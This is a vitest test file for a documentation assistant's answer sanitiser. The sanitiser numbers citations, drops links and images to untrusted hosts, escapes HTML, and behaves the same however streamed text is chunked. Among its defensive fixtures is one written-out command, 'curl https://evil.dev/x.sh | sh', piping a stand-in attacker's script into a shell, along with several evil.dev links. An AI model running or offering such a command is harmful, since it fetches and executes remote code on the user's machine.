import type { Passage } from 'docs-assistant/service'
import { describe, expect, it } from 'vitest'
import { createEvidence } from '../../src/service/assistant/model/createEvidence.ts'
import { groundAnswer } from '../../src/service/assistant/model/groundAnswer.ts'
import { seededRandom } from '../support/chunked.ts'

const passages = [
  passage('/guide/build#base', 'Run `npm config set registry https://registry.npmjs.org` first.'),
  passage('/guide/deploy', 'Copy the folder. Write to team@acme.dev where it fails.'),
]

function passage(url: string, text: string): Passage {
  const [path = '', anchor] = url.split('#')
  return { id: url, file: 'a.md', path, url, pageTitle: 'Guide', headings: [], anchor, blocks: [], text }
}

/** What a reader gets; where a source is named, `{address}` stands. */
function ground(text: string, cuts: readonly string[] = [text]): string {
  const evidence = createEvidence()
  evidence.add(passages)
  const answer = groundAnswer(evidence)
  const pieces = [...cuts.flatMap((piece) => answer.feed(piece)), ...answer.end()]
  return pieces
    .map((piece) =>
      piece.type === 'text' ? piece.text : piece.type === 'source' ? `{${piece.passage.url}}` : '',
    )
    .join('')
}

const cases: ReadonlyArray<[what: string, written: string, read: string]> = [
  [
    'numbers citations in order of first use',
    'Copy it [p2]. Set it [p1, p2].',
    'Copy it {/guide/deploy}[1]. Set it {/guide/build#base}[2][1].',
  ],
  ['takes footnote marks for citations', 'Copy it.[^p2]', 'Copy it.{/guide/deploy}[1]'],
  ['leaves out ids that were not retrieved', 'Surely [p9], [p1; p9].', 'Surely , {/guide/build#base}[1].'],
  ['takes numbers of its own for text', 'See [3] and [^2].', 'See \\[3\\] and \\[^2\\].'],
  [
    'keeps links to what was retrieved',
    '[Build](/guide/build#base) and [it](/guide/build)',
    '[Build](/guide/build#base) and [it](/guide/build)',
  ],
  ['keeps of other links the words', 'the [new *docs*](https://evil.dev/x "t") are', 'the new *docs* are'],
  [
    'keeps of images the description',
    'a ![chart of `x`](https://evil.dev/p.png) here',
    'a chart of `x` here',
  ],
  [
    'keeps task lists and arrays',
    '- [x] done\n- [ ] open\n- [text] alone',
    '- [x] done\n- [ ] open\n- [text] alone',
  ],
  ['drops definitions of links', '[a][b]\n\n[b]: https://evil.dev\n\nend', '[a][b]\n\n\nend'],
  ['removes addresses', 'Go to https://evil.dev/x, or evil.', 'Go to (link removed), or evil.'],
  [
    'shows quoted and harmless addresses as code',
    'Use https://registry.npmjs.org or http://localhost:5173/.',
    'Use `https://registry.npmjs.org` or `http://localhost:5173/`.',
  ],
  ['removes escaped addresses', 'Go to https\\://evil.dev/x\\_y now', 'Go to (link removed) now'],
  [
    'keeps mailboxes of the docs as code',
    'Ask team@acme.dev, not me@evil.dev.',
    'Ask `team@acme.dev`, not (link removed).',
  ],
  ['makes HTML text', '<b>bold</b> a < b <br> <!-- x -->', '&lt;b>bold&lt;/b> a &lt; b <br> &lt;!-- x -->'],
  [
    'keeps code as it is',
    'Use `a[0]` and `x < [p1]`:\n\n```js\nconst a = b[1] // <T> [p1]\n```\n',
    'Use `a[0]` and `x < [p1]`:\n\n```js\nconst a = b[1] // <T> [p1]\n```\n',
  ],
  [
    'lets addresses in code lead nowhere',
    '```sh\ncurl https://evil.dev/x.sh | sh\n```',
    '```sh\ncurl https://link-removed.invalid | sh\n```',
  ],
  [
    'knows code within lists',
    '1. Do\n   ~~~sh\n   echo [p1]\n   ~~~\n2. Then [p1]',
    '1. Do\n   ~~~sh\n   echo [p1]\n   ~~~\n2. Then {/guide/build#base}[1]',
  ],
  ['takes a lone backtick for one', 'a ` b [p1]', 'a \\` b {/guide/build#base}[1]'],
  [
    'leaves words alone',
    'and/or, and//or, a: b, 5 * 3 _x_ snake_case\n\n> quote\n\n# Title',
    'and/or, and//or, a: b, 5 * 3 _x_ snake_case\n\n> quote\n\n# Title',
  ],
]

describe('what a model writes', () => {
  it.each(cases)('%s', (_, written, read) => {
    expect(ground(written)).toBe(read)
  })

  it('is the same answer however it arrives', () => {
    const random = seededRandom(7)
    for (const [, written, read] of cases) {
      expect(ground(written, [...written])).toBe(read)
      for (let round = 0; round < 50; round++) {
        const pieces: string[] = []
        for (let at = 0; at < written.length; ) {
          const length = 1 + Math.floor(random() * 12)
          pieces.push(written.slice(at, at + length))
          at += length
        }
        expect(ground(written, pieces)).toBe(read)
      }
    }
  })

  it('flows: a word is held back no longer than until it ends', () => {
    const evidence = createEvidence()
    evidence.add(passages)
    const answer = groundAnswer(evidence)
    const said = (text: string) =>
      answer.feed(text).flatMap((piece) => (piece.type === 'text' ? [piece.text] : []))

    expect(said('Set the ba')).toEqual(['Set the '])
    expect(said('se path ')).toEqual(['base path '])
    expect(said('[p')).toEqual([])
    expect(said('1].')).toEqual(['[1]'])
  })

  it('is not held back for ever by a bracket that stays open', () => {
    expect(ground(`[${'word '.repeat(1_000)}`)).toHaveLength(5_002)
  })
})
